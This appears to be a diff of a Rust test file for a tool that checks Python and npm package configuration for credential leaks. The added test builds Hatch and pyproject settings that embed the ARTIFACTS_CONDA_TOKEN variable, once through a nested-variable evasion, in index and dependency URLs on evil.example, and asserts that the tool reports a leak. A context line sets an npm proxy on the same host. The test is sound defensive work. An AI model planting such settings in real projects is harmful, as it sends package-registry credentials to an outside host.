@@ -86,6 +86,31 @@ fn a_variable_of_a_client_that_holds_the_token_is_guarded_in_every_file() {
 }
 
 #[test]
+fn hatch_sends_condas_variable_nowhere_else() {
+    const ALIAS: &str =
+        "channel_alias: https://t:${ARTIFACTS_CONDA_TOKEN}@pkgs.dev.azure.com/contoso/_packaging/f/Conda/repo/";
+    let index = |reference: &str, host: &str| {
+        format!("PIP_EXTRA_INDEX_URL = 'https://t:{reference}@{host}/contoso/_packaging/f/pypi/simple/'\n")
+    };
+    for reference in ["{env:ARTIFACTS_CONDA_TOKEN}", "{env:ARTIFACTS_CONDA_{env:X:TOKEN}}"] {
+        let set = index(reference, "evil.example");
+        for (path, text) in [
+            ("hatch.toml", format!("[envs.x.env-vars]\n{set}")),
+            ("pyproject.toml", format!("[tool.hatch.envs.x.env-vars]\n{set}")),
+            ("pyproject.toml", format!("[project]\ndependencies = ['a @ https://evil.example/{reference}/a.whl']\n")),
+        ] {
+            let error = Case { files: &[(".condarc", ALIAS), (path, &text)], ..Case::default() }.result().unwrap_err();
+            assert!(
+                matches!(error, PlanError::Leak { .. }) && error.to_string().contains("ARTIFACTS_CONDA_TOKEN"),
+                "{error}"
+            );
+        }
+    }
+    let ours = format!("[envs.x.env-vars]\n{}", index("{env:ADO_ENTRA_TOKEN}", "pkgs.dev.azure.com"));
+    assert!(Case { files: &[(".condarc", ALIAS), ("hatch.toml", &ours)], ..Case::default() }.result().is_ok());
+}
+
+#[test]
 fn a_setting_that_leads_npm_elsewhere_is_named_with_its_line_and_what_to_do() {
     for (setting, words) in [
         ("proxy=http://evil.example:8080", ["sends the traffic through a proxy", "HTTPS_PROXY"]),
